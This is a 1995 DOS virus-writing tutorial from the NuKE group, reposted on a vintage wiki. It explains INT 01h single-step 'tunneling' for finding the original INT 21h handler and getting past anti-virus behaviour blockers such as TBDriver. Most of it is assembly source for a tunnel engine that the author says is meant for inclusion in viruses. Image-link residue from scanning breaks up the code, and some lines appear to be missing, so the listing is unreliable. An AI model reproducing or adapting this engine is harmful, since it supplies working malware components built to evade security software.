Please consider a donation to the Higher Intellect project. See or the Donate to Higher Intellect page for more info.

Single Stepping Tunnel Techniques

From Higher Intellect Vintage Wiki
Jump to navigation Jump to search
                             Dark Fiber of [NuKE]


                      Single Stepping Tunnel Techniques

                                    Part 121st August 1995

File Descriptions:

df-tunnl.doc    - This document
example.asm     - Example program that calls tunnel.asm     - Compiled example.asm
tunnel.asm      - The basic tunneling engine.
f-Tunnel.asm    - Full blown tunnel engine.
f-exampl.asm    - Example using F-Tunnel    - Compiled f-exampl.asm

  Tunneling with INT 01h is an easy thing to do, about as easy as writing
*.COM file viruses, but, for some reason, guides for using INT 01h tunneling
techniques dont exist like *.COM file virus guides do, so I'm going to remedy

  The Intel and its clone 8086+ compatibles have a nice mode built into them
called Single Stepping, and its VERY handy for programmers like us, who
want to find something specific in memory, for example, the kernel Int 21h
segment:offset, and bypassing other blocking TSR programs, such as Anti-Virus
behaviour blockers.  This tunneling technique is not the be all and end all
of tunneling, as I will discuss some techniques and why they work against
this kind of tunneling further on.

  In order to use the Single Step mode, we need to modify one of the bits
in the flag, and have set up an interrupt.

  The flag is a 16bit register and consists of thefollowing fields.

          flags   ł--ł--ł--ł--łOFłDFłIFłTFłSFłZFł--łAFł--łPFł--łCFł
                   0F 0E 0D 0C 0B 0A 09 08 07 06 05 04 03 02 01 00

        CF : Carry Flag         Indicates an arithmetic carry
        -- : Unused
        PF : Parity Flag        Indicates an even number of 1 bits
        -- : Unused
        AF : Auxilary Flag      Indicates adjustment needed in BCD numbers
        -- : Unused
        ZF : Zero Flag          Indicates a zero result, or equal comparison
        SF : Sign Flag          Indicates negative result/comparison
        TF : Trap Flag          Controls Single Step operation
        IF : Interrupt Flag     Controls whether interrupts are enabled
        DF : Direction Flag     Controls increment direction on string regs.
        OF : Overflow Flag      Indicates signed arithmetic overflow
        -- : Unused-- : Unused
        -- : Unused
        -- : Unused

  The only one we need to concern ourselves with is the TF flag.
When the trap flag is off, well, the Int 01h is not used, but when we turn
the TF to on, the Int 01h routine is called BEFORE each instruction is

  So, with that order in mind, you must hook the Int 01h, THEN turn on the
trap flag.

  First thing that we must do is to hook Int 1h, then we need to set Int 1h,
set the trap flag to on, then lastly, call a function that we wish to trace.

For the example code presented, we will be tunneling Int 21h.
All the code is for a minimum of an 80286 or greater, because I dont care
for coding for the lesser 8086 machine. ;)

;== [ 80286+ |Priming the Tunnel code ]===
; This code will save and hook INT 01h, and put the processor into single
; stepping mode.

Int_01v:        dd ?                            ;Old address for Int 01h
Int_21v:        dd ?                            ;the tracer modifies this.

        pusha                                   ;Save our registers,
        push    es                              ;Assume we are being called
        push    ds                              ;from an external source.

        mov     ax,03521h
        int     021h                            ;Get Int 21h
    cs: mov     word ptr [Int_21v],bx           ;Save Int 21h address
    cs: mov     word ptr [Int_21v + 2],es

        mov     al,01h                          ;Get Int 01h
        int     021h
    cs: mov     word ptr [Int_01v],bx           ;Save Int 01h address
    cs: mov     word ptr [Int_01v + 2],es

        push    cs
        pop     ds                              ;Set DS = CS for OUR Int 01
        mov     ah,025h
        mov     dx,offset Int_01Handler         ;Our Int 01h routine
        int     21h                             ;Set our Int 01h routine

        ;This first PUSHF, is used in conjunction with the CALL FAR [Int_21v];code, as we need a FLAGS on the stack that has not got the TF
        ;turned to ON.


        pop     ax                              ;Save the flag
        or      ax,0100                         ;Set the TF to ON
        push    ax
        popf                                    ;restore the flags

        ;The moment we POPF the flags, the trace mode is initiated
        ;Because of the way it works, the first instruction immediately
        ;following the POPF is NOT traced, tracing begins with the
        ;second instruction AFTER the POPF.

        mov     ax,03306                        ;Set AX for INTERNAL_DOS_VERS.
        call    far [Int_21v]                   ;Call the Int 21.
                                                ;we are faking an INT 21 call.

        ;The Int_01Handler routine takes over from here until the trace
        ;is finished. Only when it's finished will control pass back to this
        ;piece of code.

        ;When control is passed back, Int_21v will hold the segment:offset
        ;of the last cross segment jump before the trace ended.

        ;Restore the old Int_01h vector
        lds     dx,word ptr [Int_01v]
        mov     ax,02501
        int     21hpop     ds
        pop     es
        popa                                    ;Restore registers


  Okey, before I code the Int_1_Handler routine for you, we need to go
over some more theory.

  First, is that the Int_1_Handler routine is designed to check what opcode
is going to be run next, so we need to know what some of the opcodes that
we will need to check for are.

        26h             ES:
        2Eh             CS:
        36h             SS:3Eh             DS:
                        These four are the segment overrides, and are ALWAYS
                        placed BEFORE the opcode, but the CPU sees them as
                        part of the same opcode, so we must check for these
                        and then siphon them off, to get the byte value of
                        the real opcode.  We also use them for to determine
                        what segment to take data from on things like FAR
                        cross segment jumps.

        9Ch             PUSHF
                        We need to know this so we can get around Nemesis.

        9Dh             POPF
                        We need to check for the POPF because we dont want
                        any other program from turning off the TrapFlag, and
                        thus, dissableling our trace.

        CFh             IRET
                        This is what we use to signal that our trace shouldEAh             JMP xxxx:yyyy
        FFh 1Eh         CALL FAR [xxxx]
        FFh 2Eh         JMP FAR [xxxx]

                        These three opcodes are used as cross segment jumps,
                        which commonly hold the seg:offs of the next Int hook.
                        Because the last two (FF1Eh, FF2Eh) take data from
                        the segment override, or the current DS, we need to
                        know what that is too.

;== [ 80286+ | Tunnel Engine ] ===
;This is the actual code that does all the hard work.
;It has been somewhat (20bytes) optimised from the engine I used in Lady Death
;And bugfixed too ;)

;These are our register offsets into the SS:SP[BP]

        _rfl    equ 01A
        _rcs    equ 018
        _rip    equ 016
        _ax     equ 014
        _cx     equ 012
        _dx     equ 010
        _bx     equ  0E
        _sp     equ  0C
        _bp     equ  0A
        _si     equ  08
        _di     equ  06
        _es     equ  04
        _ds     equ  02
        _ss     equ  00

        push    es
        push    ds                     ;Save ALL registers.
        push    ss                     ;Its not really necessary to save SS ;)
        mov     bp,sp                  ;but this engine was built for expansion

        ;One thing to note, if you want to know the TRUE value of SP, that
        ;is, you must subtract 6 from it, which covers the calling cs, ip & f.
        ;and thats sub w[bp+_sp],6  not sub sp,6 ;)

        push    cs
        pop     ds

        test    b[_status],1
        je      RunNextTest_1
        xor     b[_status],1
        and     word ptr [bp+_rfl+2],0feff
        jmp     GetOpCodelds     si,word ptr [bp+22]     ;Get the seg:off of the next opcode

        cld                             ;clear direction
        lodsb                           ;get opcode

        ;AL now holds our bytevalue opcode.

        ;Check for a segment override, and if not, assume its working in DS
        call    GetSegOveride           ;Get the segment override
                                        ;bx = segment we will be using.

        ;Check the OPCode in AL
        cmp     al,09dh                 ;POPF?
        jne     ItsNotPOPF
        ;They are attempting to POP the flags.  Just incase they have tried
        ;to turn the TF off, we keep it turned on.
        or      word ptr [bp+_rfl+2],0100 ;Keep TRAPFLAG set to on.

        cmp     al,09cjne     ItsNotPUSHF
    cs: or      byte ptr [_status],1

        cmp     al,0cf                          ;IRET
        jne     ItsNotIRET
        ;An IRET signals the end of our trace.
        ;So turn the TF to off.
        and     word ptr [bp+_rfl],0feff        ;Turn trace flagoff

        cmp     al,0eah                 ;Jmp xxxx:yyyy
        jne     ItsNotFarJump

        ;A Cross segment jump!  Save the seg:offset its going to jump into.
        ;The data for the cross seg jump is contained in the CS: seg.
        ;So, no change is needed.

    cs: mov     word ptr [Int_21v+0],ax
    cs: mov     word ptr [Int_21v+2],ax
        jmp     RunNextOpCode

        cmp     al,0ffh                 ;jmp d[xxxx]
        jne     ItsNotJmpD

        cmp     byte ptr [si],01eh      ;jmp d[xxxx], type 1
        jne     ItsJmpD
        cmp     byte ptr [si],02eh      ;jmp d[xxxx], type 2jne     ItsNotJmpD

        inc     si                      ;skip jump type

        ;This opcode can use a segment override, so use it!
        mov     ds,bx                   ;segment override
        lodsw                           ;get storage offset of seg:offs
        mov     si,ax                   ;
        jmp     FarJumpData             ;treat it like jmp xxxx:yyyy

        ;Next opcode here....
        ;Well, we dont need to monitor any more opcodes....

        pop     ss
        pop     ds
        pop     es                      ;Restore the flags
        iret                            ;Run the next opcode.cmp     al,026h                 ;ES
        jne     NotSegES
        mov     bx,word ptr [bp+_es]
        lodsb                           ;Skip seg override, to get next opcode

        cmp     al,02eh                 ;CS
        jne     NotSegCS
        mov     bx,word ptr [bp+_rcs]
        lodsb                           ;Skip seg override, to get next opcode

        cmp     al,036h                 ;SS
        jneNotSegSS
        mov     bx,word ptr [bp+_ss]
        lodsb                           ;Skip seg override, to get next opcode

        cmp     al,03eh                 ;DS
        jne     NotSegDS
        mov     bx,word ptr [bp+_ds]lodsb                           ;Skip seg override, to get next opcode

        mov     bx,word ptr [bp+_ds]    ;DS
        ret                             ;No override, so assume DS

_status: db 0


  The code presented here is, when compiled, somewhere around 200bytes
long.  Which I think is not too big, when you include it in a virus.
The engine presented here was very basic in its structure.  It did not
check for things like

                JMP DOUBLE [BX+4]
                JMP DOUBLE [BX]
                JMP DOUBLE [SI-4]


                CALL DOUBLE [BX]

The reason being is that there are lots of other techniques for cross segment
jumping, and including all types would expand the engine considerably, and
they would not really be necessary in a virus.

                      Single Stepping TunnelingTechniques

                                     Part 2


  Okey, so you have run the Example.Com program and TBDriver has beeped
to the tune of Example.Com is trying to trace the Interrupt chain, or something
to that effect.  Your first question should be "How the hell does it know weare tracing it?"

Well, I'm glad you asked! ;)

Here is a simple representation

        Code Memory                             Stack Memory

        mov     ax,1234h
        push    ax                              1234h
        mov     bx,5678h                        1234h
        mov     cx,DEADh                        1234h
        push    cx                              DEADh, 1234h
        push    bx                              5678h, DEADh, 1234h

        pop     ax      ;=5678h                 DEADh, 1234h
        pop     bx      ;=DEADh                 1234h
        pop     cx      ;=1234h

Now, even tho we have popped them off memory, what has actually happend is
that the SP add had 2 added to it each time, adjusting where it points to,
but those values ARE STILL IN MEMORY, just below where SP points to currently.

        so, if we did

        sub     sp,6

        the Stack Memory would look like

        5678h, DEADh, 1234h

The contents of memory have not been altered in any way, just the pointer
to the memory has.

Now, using the above example, this is what happens when we tunnelassume,   int 1 CS=code, flags=flags, and the # is the ip.

When an INT occurs, it pushes the flags, cs, and ip onto the stack.

        Code Memory                     Stack Memory

1)      mov     ax,1234h
2)     *int     1*                              3, code, flags,
3)      push    ax                              1234h
4)     *int     1*                              5, code, flags, 1234h
5)      mov     bx,5678h                        1234h
